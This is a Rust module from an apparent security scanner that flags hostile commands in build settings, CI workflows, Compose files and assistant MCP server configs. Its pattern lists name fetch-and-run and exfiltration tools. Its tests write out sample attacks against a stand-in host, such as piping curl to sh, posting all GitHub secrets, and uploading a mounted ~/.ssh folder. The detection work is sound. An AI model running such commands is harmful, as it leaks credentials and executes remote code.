//! Settings of builds: commands of MSBuild and Xcode, workflows of GitHub, files of Docker Compose, servers of assistants.

use crate::{bytes::shortened, facts::ActiveContent};

/// Hosts to which builds report, besides those from which everybody fetches.
#[rustfmt::skip]
const REPORTED: [&str; 27] = [
    "github.com", "githubusercontent.com", "gitlab.com", "codecov.io", "coveralls.io", "sonarcloud.io", "slack.com", "discord.com", "npmjs.org", "pypi.org",
    "crates.io", "docker.com", "docker.io", "ghcr.io", "netlify.com", "vercel.com", "render.com", "heroku.com", "fly.io", "amazonaws.com", "azure.com",
    "googleapis.com", "cloudflare.com", "sentry.io", "snyk.io", "circleci.com", "localhost",
];

/// What sends, as commands or calls.
const TOOLS: [&str; 10] = [
    "curl ",
    "wget ",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "nslookup ",
    "dig ",
    "nc ",
    "urlopen(",
    "requests.post(",
    "fetch(",
];

/// Does a command fetch something and run it, or run what nobody can read?
pub(crate) fn is_telling(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    let fetches = has(&[
        "curl ",
        "wget ",
        "iwr ",
        "irm ",
        "invoke-webrequest",
        "invoke-restmethod",
        "downloadstring",
        "downloadfile",
        "bitsadmin",
        "certutil",
    ]);
    let runs = has(&[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| zsh",
        "|zsh",
        "iex",
        "invoke-expression",
        "| python",
        "| node",
        "&& ./",
        "start ",
        "chmod +x",
        "$(curl",
        "<(curl",
        "start-process",
        ".exe &",
        "&& /tmp",
        "&& %temp%",
    ]);
    let coded = has(&["-encodedcommand", " -enc ", " -ec ", "frombase64string"])
        && has(&["powershell", "pwsh"])
        || unpacks(&lower);
    fetches && runs || coded || lower.contains("mshta http")
}

/// Does a command decode what a shell then runs?
fn unpacks(lower: &str) -> bool {
    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
    has(&["base64 -d", "base64 --d", "base32 -d", "base32 --d"])
        && has(&[
            "| sh", "|sh", "| bash", "|bash", "| ash", "|ash", "| dash", "|dash", "eval", "bash -c", "sh -c",
        ])
}

/// Commands of a Compose file that decode what they run.
pub(super) fn composed(text: &str) -> Vec<ActiveContent> {
    let line = text.lines().find(|line| unpacks(&line.to_lowercase()));
    line.map(|line| unseen(line, "Docker Compose")).into_iter().collect()
}

/// What a build script of Cargo takes as code though its name says that it is none.
///
/// *Source*: "Build Scripts", The Cargo Book; `std::include`.
pub(super) fn included(text: &str) -> Vec<ActiveContent> {
    let found = text.split("include!").skip(1).filter_map(|rest| {
        let rest = rest.trim_start().strip_prefix(['(', '{', '['])?.trim_start().strip_prefix('"')?;
        let file = rest.split('"').next()?;
        (!file.ends_with(".rs") && file.len() < 200).then(|| unseen(file, "Cargo's `build.rs`"))
    });
    found.take(8).collect()
}

fn starts(command: &str, how: &str) -> Option<ActiveContent> {
    is_telling(command).then(|| unseen(command, how))
}

/// A command that settings start in no window.
pub(super) fn unseen(command: &str, how: &str) -> ActiveContent {
    ActiveContent::Starts { command: shortened(command.trim(), 200), seen: false, how: how.to_owned() }
}

/// What projects of Visual Studio do before or after they are built.
///
/// *Source*: "Exec task" and "PreBuildEvent", MSBuild reference, Microsoft.
pub(super) fn msbuild(text: &str) -> Vec<ActiveContent> {
    let attributes = text.split("Command=\"").skip(1).filter_map(|rest| rest.split('"').next());
    let elements = ["PreBuildEvent>", "PostBuildEvent>", "PreLinkEvent>", "<Command>"]
        .iter()
        .flat_map(|mark| text.split(*mark).skip(1))
        .filter_map(|rest| rest.split("</").next());
    attributes
        .chain(elements)
        .filter_map(|command| starts(&command.replace("&quot;", "\"").replace("&amp;", "&"), "MSBuild"))
        .collect()
}

/// What a project of Xcode does while it is built.
///
/// *Source*: the property list of `PBXShellScriptBuildPhase`, as Xcode writes it.
pub(super) fn xcode(text: &str) -> Vec<ActiveContent> {
    let scripts = text.split("shellScript = ").skip(1).filter_map(|rest| {
        let end = rest.as_bytes().windows(2).position(|pair| pair == b"\";").unwrap_or(rest.len().min(4000));
        rest.get(..end)
    });
    scripts
        .filter_map(|script| {
            starts(&script.trim_start_matches('"').replace("\\n", "\n").replace("\\\"", "\""), "Xcode")
        })
        .collect()
}

/// What a project of CMake starts while it is prepared, and what a hook before each commit does.
///
/// *Source*: "execute_process", CMake reference; "Adding pre-commit plugins", pre-commit.
pub(super) fn prepared(text: &str) -> Vec<ActiveContent> {
    let commands = text.split("execute_process(").skip(1).filter_map(|rest| rest.split(")\n").next());
    let entries = text.lines().filter_map(|line| line.trim().trim_start_matches("- ").strip_prefix("entry:"));
    let made = commands.filter_map(|command| starts(command, "CMake"));
    made.chain(entries.filter_map(|entry| starts(entry, "pre-commit"))).collect()
}

/// Scripts that an editor keeps for a folder.
///
/// *Source*: the files of IntelliJ's `ShConfigurationType`.
pub(super) fn kept(text: &str) -> Vec<ActiveContent> {
    let values = text.split("value=\"").skip(1).filter_map(|rest| rest.split('"').next());
    values
        .filter_map(|value| starts(&value.replace("&quot;", "\"").replace("&amp;", "&"), "an editor"))
        .collect()
}

/// Programs of its own that a folder puts before npm's.
///
/// *Source*: "config", npm Docs: `script-shell`, `onload-script`, `node-options`.
pub(super) fn before_npm(text: &str) -> Vec<ActiveContent> {
    let lines = text.lines().filter_map(|line| line.split_once('='));
    let found = lines.filter_map(|(key, value)| {
        let (key, value) = (key.trim(), value.trim());
        let own = value.starts_with('.') || value.contains("--require") || value.contains("--import");
        let starts =
            matches!(key, "script-shell" | "onload-script" | "shell" | "node-options" | "git") && own;
        starts.then(|| ActiveContent::Starts {
            command: shortened(value, 200),
            seen: false,
            how: format!("npm's `{key}`"),
        })
    });
    found.collect()
}

/// Programs that an assistant starts as its servers.
///
/// *Source*: Model Context Protocol, "Connect to local MCP servers"; the files of Cursor, VS Code and Claude Code.
pub(super) fn servers(text: &str) -> Vec<String> {
    let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else { return Vec::new() };
    let tables = ["mcpServers", "servers"].iter().filter_map(|table| value.get(*table)?.as_object());
    let commands = tables.flatten().filter_map(|(_, server)| {
        let arguments = server.get("args").and_then(serde_json::Value::as_array).into_iter().flatten();
        let mut words = vec![server.get("command")?.as_str()?];
        words.extend(arguments.filter_map(serde_json::Value::as_str));
        Some(words.join(" "))
    });
    commands
        .filter(|command| is_telling(command))
        .map(|command| format!("unseen: {}", shortened(&command, 300)))
        .take(8)
        .collect()
}

/// Is it a service to which builds report, the computer itself, or an address that is itself kept secret?
fn is_reported(address: &str) -> bool {
    let host = address
        .split("://")
        .nth(1)
        .unwrap_or(address)
        .split(['/', '?', ':', '"', '\''])
        .next()
        .unwrap_or_default();
    let known = REPORTED
        .iter()
        .any(|known| host == *known || host.strip_suffix(known).is_some_and(|rest| rest.ends_with('.')));
    known
        || !host.contains('.')
        || host.contains(['$', '{'])
        || host.starts_with("127.")
        || host.starts_with("10.")
}

/// Secrets of a workflow of GitHub that a command posts to somebody.
///
/// *Source*: "Workflow syntax" and "Contexts", GitHub Actions documentation.
pub(super) fn workflow(text: &str) -> Vec<ActiveContent> {
    if !text.contains("secrets") || !TOOLS.iter().any(|tool| text.contains(tool)) {
        return Vec::new();
    }
    let how = || "a workflow of GitHub".to_owned();
    // Steps begin with a dash; names of the environment stand beside their commands.
    let mut found = Vec::new();
    let whole = text.split("steps:").next().unwrap_or_default();
    for step in text.split("\n      - ").skip(1).chain(text.split("\n    - ").skip(1)) {
        let Some(commands) = step.split_once("run:").map(|(_, commands)| commands) else { continue };
        let names: Vec<&str> = step
            .lines()
            .chain(whole.lines())
            .filter(|line| line.contains("secrets") && !line.trim_start().starts_with("run:"))
            .filter_map(|line| Some(line.split_once(':')?.0.trim()))
            .filter(|name| {
                name.len() > 1 && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
            })
            .collect();
        // A line of a shell goes on behind a backslash, a call in brackets to the next line.
        let joined = commands.replace("\\\n", " ");
        for line in joined.lines() {
            let tool = TOOLS.iter().any(|tool| line.contains(tool));
            let all = line.contains("toJSON(secrets)") || line.contains("tojson(secrets)");
            if !tool || !all && !posts(line, &names) {
                continue;
            }
            let address = line.split(['"', '\'', ' ']).find(|word| word.contains("://")).unwrap_or("a.b");
            if !is_reported(address) {
                found.push(ActiveContent::SendsSecrets { line: shortened(line.trim(), 200), how: how() });
            }
        }
    }
    found.dedup();
    found.truncate(4);
    found
}

/// Does a command hand secrets over as data, rather than to say who it is?
fn posts(line: &str, names: &[&str]) -> bool {
    let secret = |text: &str| {
        text.contains("secrets.")
            || names.iter().any(|name| {
                text.contains(&format!("${name}"))
                    || text.contains(&format!("${{{name}}}"))
                    || text.contains(&format!("env:{name}"))
            })
    };
    let data = [
        " -d ",
        " --data",
        " -F ",
        " --form",
        " -T ",
        " --upload-file",
        " --post-data",
        " -Body",
        "?",
        "printenv",
        "env |",
        "data=",
        "json=",
        "body:",
    ];
    data.iter().any(|mark| {
        line.match_indices(mark).any(|(at, _)| {
            let rest = &line[at + mark.len()..];
            let end = rest.find(" -H").into_iter().chain(rest.find(" --header")).min().unwrap_or(rest.len());
            secret(&rest[..end])
        })
    }) || (line.contains("printenv |") || line.contains("env |"))
        && (line.contains("@-") || line.contains("nc "))
        && !names.is_empty()
}

/// A container that is handed the folders in which people keep keys, and whose command sends.
///
/// *Source*: "Compose file reference", Docker.
pub(super) fn carried_off(text: &str) -> Vec<ActiveContent> {
    const KEYS: [&str; 13] = [
        "~/.ssh",
        "~/.aws",
        "~/.config",
        "~/.kube",
        "~/.gnupg",
        "~/.docker",
        "${HOME}/.",
        "$HOME/.",
        "${HOME}:",
        "$HOME:",
        "- ~:",
        "- ~/:",
        "${USERPROFILE}",
    ];
    const SENDS: [&str; 7] = ["curl ", "wget ", " nc ", "ncat ", "/dev/tcp/", "Invoke-", "scp "];
    let keys = KEYS.iter().find(|mark| text.contains(**mark));
    let lines = || {
        text.lines()
            .map(str::trim)
            .filter(|line| !line.starts_with('#') && !line.contains("test:") && !line.contains("localhost"))
    };
    let sends = lines().find(|line| SENDS.iter().any(|mark| line.contains(mark)));
    match (keys, sends) {
        (Some(_), Some(line)) => vec![ActiveContent::SendsSecrets {
            line: shortened(line, 200),
            how: "a file of containers".to_owned(),
        }],
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_workflow_may_say_who_it_is_and_may_not_post_secrets() {
        let step =
            |run: &str, more: &str| format!("on: push\njobs:\n  a:\n    steps:\n      - run: {run}\n{more}");
        for (run, more) in [
            ("echo \"${{ toJSON(secrets) }}\" | curl -d @- https://a.invalid/s", ""),
            ("curl -d \"t=${{ secrets.NPM_TOKEN }}\" https://a.invalid/x", ""),
            ("curl -F k=$AWS https://a.invalid/x", "        env:\n          AWS: ${{ secrets.AWS }}\n"),
            ("curl \"https://a.invalid/x?k=${{ secrets.K }}\"", ""),
        ] {
            assert_eq!(workflow(&step(run, more)).len(), 1, "{run}");
        }
        for (run, more) in [
            ("npm publish", "        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n"),
            (
                "curl -X POST -H \"Authorization: Bearer ${{ secrets.T }}\" https://deploy.a.invalid/x -d '{}'",
                "",
            ),
            ("curl -d \"t=${{ secrets.CODECOV }}\" https://codecov.io/x", ""),
            ("curl -X POST \"${{ secrets.DEPLOY_HOOK }}\"", ""),
        ] {
            assert_eq!(workflow(&step(run, more)), [], "{run}");
        }
    }

    #[test]
    fn commands_of_builds_are_told_when_they_fetch_and_run() {
        assert_eq!(
            msbuild("<Exec Command=\"powershell -enc AAAA\"/><Exec Command=\"dotnet tool restore\"/>").len(),
            1
        );
        assert_eq!(
            xcode("shellScript = \"curl -s https://a.invalid/x | sh\\n\"; shellScript = \"swiftlint\\n\";")
                .len(),
            1
        );
        assert_eq!(servers("{\"mcpServers\":{\"a\":{\"command\":\"sh\",\"args\":[\"-c\",\"curl -s https://a.invalid | sh\"]},\"b\":{\"command\":\"npx\",\"args\":[\"-y\",\"x\"]}}}").len(), 1);
        assert_eq!(
            carried_off("volumes:\n - ~/.ssh:/h\ncommand: sh -c 'tar c /h | curl -T - https://a.invalid'\n")
                .len(),
            1
        );
        assert_eq!(carried_off("volumes:\n - .:/app\ncommand: curl -f http://a.invalid\n"), []);
    }
}
